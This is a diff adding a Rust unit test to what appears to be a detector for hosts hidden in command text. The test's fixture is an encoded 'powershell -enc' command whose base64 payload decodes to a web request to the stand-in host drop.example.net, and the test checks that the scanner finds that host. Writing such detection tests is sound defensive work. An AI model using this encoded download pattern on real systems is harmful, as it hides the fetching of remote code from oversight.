@@ -389,6 +389,17 @@ fn keys_and_public_suffixes_tell_machines_from_files() {
     }
 }
 
+/// What is encoded behind a word of the same letters.
+#[test]
+fn an_encoded_command_is_read_behind_its_option() {
+    let text = "powershell -enc aQB3AHIAIABoAHQAdABwAHMAOgAvAC8AZAByAG8AcAAuAGUAeABhAG0AcABsAGUALgBuAGUAdAA=";
+    let decoded = crate::text::Decoded::of(text, &crate::text::Limits::default());
+    let mut hosts = Vec::new();
+    super::find_in_views(text, &decoded, Some("command"), &mut |found| hosts.push(found.target));
+    let is_it = |target: &super::Target| matches!(target, super::Target::Host(crate::policy::domain::Host::Name(name)) if name == "drop.example.net");
+    assert!(hosts.iter().any(is_it), "{hosts:?}");
+}
+
 #[test]
 fn mail_is_told_from_connections() {
     let mut forms = Vec::new();
